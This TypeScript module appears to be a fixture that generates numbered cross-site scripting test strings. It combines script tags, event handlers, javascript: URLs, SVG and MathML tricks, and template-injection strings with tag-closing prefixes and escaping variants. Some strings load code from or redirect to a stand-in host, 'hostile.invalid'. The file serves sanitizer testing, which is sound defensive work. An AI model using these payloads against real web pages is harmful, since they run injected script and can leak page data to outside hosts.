/**
 * Texts that would run if anything took them for markup: what runs × what closes around it × how it is written.
 * Each calls `hit` with its number, and each element that it would make carries `data-hostile`.
 */

const host = 'https://hostile.invalid';

const runs: readonly ((hit: string) => string)[] = [
  (hit) => `<script data-hostile>${hit}</script>`,
  (hit) => `<script data-hostile src="${host}/x.js"></script>${hit}`,
  (hit) => `<img data-hostile src=x onerror="${hit}">`,
  (hit) => `<svg data-hostile onload="${hit}">`,
  (hit) => `<svg data-hostile><animate onbegin="${hit}" attributeName=x dur=1s>`,
  (hit) => `<svg data-hostile><foreignObject><img src=x onerror="${hit}"></foreignObject></svg>`,
  (hit) => `<math data-hostile><mtext></p><img src=x onerror="${hit}"></math>`,
  (hit) => `<iframe data-hostile srcdoc="<script>parent.${hit}</script>"></iframe>`,
  (hit) => `<iframe data-hostile src="javascript:parent.${hit}"></iframe>`,
  (hit) => `<object data-hostile data="javascript:${hit}"></object>`,
  (hit) => `<embed data-hostile src="javascript:${hit}">`,
  (hit) => `<a data-hostile href="javascript:${hit}" autofocus onfocus="${hit}">here</a>`,
  (hit) => `<input data-hostile autofocus onfocus="${hit}">`,
  (hit) => `<details data-hostile open ontoggle="${hit}">`,
  (hit) => `<video data-hostile><source onerror="${hit}"></video>`,
  (hit) => `<audio data-hostile src=x onerror="${hit}">`,
  (hit) => `<marquee data-hostile onstart="${hit}">`,
  (hit) => `<body data-hostile onload="${hit}" onpageshow="${hit}">`,
  (hit) => `<form data-hostile action="${host}"><button autofocus onfocus="${hit}">go</button></form>`,
  (hit) => `<style data-hostile>@import "${host}/x.css"; *{background:url(${host}/${hit})}</style>`,
  (hit) => `<link data-hostile rel=stylesheet href="${host}/x.css?${hit}">`,
  (hit) => `<meta data-hostile http-equiv=refresh content="0;url=${host}/?${hit}">`,
  (hit) => `<base data-hostile href="${host}/">${hit}`,
  (hit) => `<x-hostile data-hostile style="animation-name:x" onanimationstart="${hit}">`,
  (hit) => `[click](javascript:${hit}) ![x](x"onerror="${hit})`,
  (hit) => `{{constructor.constructor('${hit}')()}}\${${hit}}<%= ${hit} %>`,
];

const closes: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `--> ]]> \`\`\`\n${text}`,
];

const written: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  (text) => text.replaceAll(/<(\/?)([a-z]+)/gu, (_whole, slash: string, name: string) => `<${slash}${name.toUpperCase()}/\u00a0`),
];

/** Every one of them, numbered. */
export function hostileTexts(): readonly string[] {
  return runs
    .flatMap((run) => closes.flatMap((close) => written.map((write) => (hit: string) => write(close(run(hit))))))
    .map((text, number) => text(`hit(${number})`));
}
